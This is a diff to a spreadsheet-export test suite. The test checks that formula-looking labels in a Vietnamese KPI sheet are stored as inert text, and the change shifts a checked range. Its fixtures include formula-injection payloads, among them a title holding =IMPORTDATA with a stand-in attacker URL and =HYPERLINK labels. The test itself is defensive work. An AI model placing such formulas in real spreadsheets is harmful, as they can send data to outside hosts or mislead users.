@@ -75,7 +75,7 @@ describe('formula-looking names', () => {
     // Not one formula anywhere in the written range, chart data (ranking labels "1. =HYPERLINK…") included.
     const formulas = office.fake.read(() => office.fake.spreadsheet.getSheetByName('Bảng điểm KPI')!.getDataRange().getFormulas().flat().filter(Boolean));
     expect(formulas).toEqual([]);
-    const ranking = office.fake.read(() => office.fake.spreadsheet.getSheetByName('Bảng điểm KPI')!.getRange('U26:U31').getValues().flat());
+    const ranking = office.fake.read(() => office.fake.spreadsheet.getSheetByName('Bảng điểm KPI')!.getRange('V26:V31').getValues().flat());
     expect(ranking.filter((label) => String(label).includes('=HYPERLINK'))).toHaveLength(1);
     expect(cells(office, 'Bảng điểm KPI', 'A1')[0]![0]).toBe('BẢNG ĐIỂM KPI MỘT CỬA — =IMPORTDATA("http://evil.example") — Quý 1/2024');
   });
